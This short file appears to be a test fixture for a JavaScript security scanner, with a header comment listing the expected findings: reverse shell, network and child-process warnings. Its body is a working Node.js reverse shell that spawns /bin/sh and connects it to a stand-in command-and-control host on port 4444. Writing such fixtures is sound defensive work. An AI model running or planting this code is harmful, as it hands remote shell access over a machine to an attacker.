// expect: error=javascript.reverse_shell info=javascript.network warning=javascript.child_process
import net from 'node:net';
import { spawn as s } from 'node:child_process';

const shell = s('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, 'c2.example.com', () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
});
